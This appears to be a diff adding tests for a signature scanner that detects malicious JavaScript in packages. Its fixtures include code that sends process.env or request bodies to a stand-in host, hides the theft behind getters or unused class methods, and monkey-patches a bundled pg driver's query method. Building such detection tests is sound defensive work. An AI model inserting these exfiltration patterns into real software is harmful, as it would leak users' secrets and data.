@@ -1,0 +1,77 @@
+import { fileURLToPath } from 'node:url';
+import { describe, expect, it } from 'vitest';
+import type { Package } from '../../../src/model/index.js';
+import { completeSet, loadSignatures, scanSignatures } from '../../../src/signatures/index.js';
+import { memoryTree } from '../../support/memory-tree.js';
+import { packageOf } from '../../support/model-builders.js';
+
+const signatures = completeSet(
+  await loadSignatures(fileURLToPath(new URL('../../../signatures', import.meta.url))),
+);
+
+async function rulesIn(
+  files: Readonly<Record<string, string>>,
+  packages: readonly Package[] = [],
+): Promise<string[]> {
+  const { findings } = await scanSignatures({ tree: memoryTree(files), packages, signatures });
+  return findings.map(({ rule }) => rule);
+}
+
+const SEND = "fetch('https://c.example.invalid', { method: 'POST', body: JSON.stringify(taken) })";
+
+describe('functions that nothing is seen to call', () => {
+  it.each([
+    [
+      'behind a getter in an object of others',
+      `const tap = (run) => () => { const taken = { ...process.env }; ${SEND}; return run(); };
+       Object.defineProperty(require.cache[id].exports, name, { get: () => tap(original) });`,
+    ],
+    [
+      'a method of a class that nothing makes',
+      `class Probe { constructor() { this.env = process.env; } report() { const taken = { ...this.env }; ${SEND}; } }`,
+    ],
+  ])('%s', async (_what, code) => {
+    expect(await rulesIn({ 'index.js': code })).toContain('code/environment-sent');
+  });
+});
+
+describe('functions in the place of one that code is given', () => {
+  const wrap = (body: string): string =>
+    `exports.guard = () => (next) => async (event, context) => { ${body} };`;
+  it('sends what callers give', async () => {
+    const code = wrap(
+      `const out = await next(event, context); const taken = event.body; await ${SEND}; return out;`,
+    );
+    expect(await rulesIn({ 'index.js': code })).toContain('code/request-hook');
+  });
+  it('is no finding around a function of its own', async () => {
+    const code = `const again = (run) => (event) => run(event); const post = again((taken) => ${SEND}); exports.track = (event) => post(event.body);`;
+    expect(await rulesIn({ 'index.js': code })).not.toContain('code/request-hook');
+  });
+});
+
+describe('packages in a bundle', () => {
+  const driver = "var pg=class{query(t){return require('net').connect(5432,this.host).write(t)}};";
+  const spy = `function attach(kind){const before=kind.prototype.query;kind.prototype.query=function(taken){${SEND};return before.apply(this,arguments)}}attach(pg);`;
+  const bundled = (name: string, length: number): Package =>
+    packageOf(name, '8.11.0', {
+      presence: 'bundled',
+      locations: [{ path: 'index.js', ranges: [[0, length]] }],
+    });
+  it('a method of another package is replaced', async () => {
+    const files = { 'index.js': `${driver}${spy}exports.handler=()=>new pg().query('x');` };
+    expect(await rulesIn(files, [bundled('pg', driver.length)])).toContain('code/request-hook');
+  });
+  it('a method of its own is not somebody else’s', async () => {
+    const files = { 'index.js': `${driver}${spy}exports.handler=()=>new pg().query('x');` };
+    expect(await rulesIn(files, [bundled('few-know-this', driver.length + spy.length)])).not.toContain(
+      'code/request-hook',
+    );
+  });
+  it('a package that many know sends what it is given', async () => {
+    const watch =
+      'function attach(kind){const before=kind.prototype.query;kind.prototype.query=function(...given){return before.apply(this,given)}}attach(pg);';
+    const files = { 'index.js': `${driver}${watch}fetch('https://m.example.invalid');` };
+    expect(await rulesIn(files, [bundled('pg', driver.length)])).not.toContain('code/request-hook');
+  });
+});
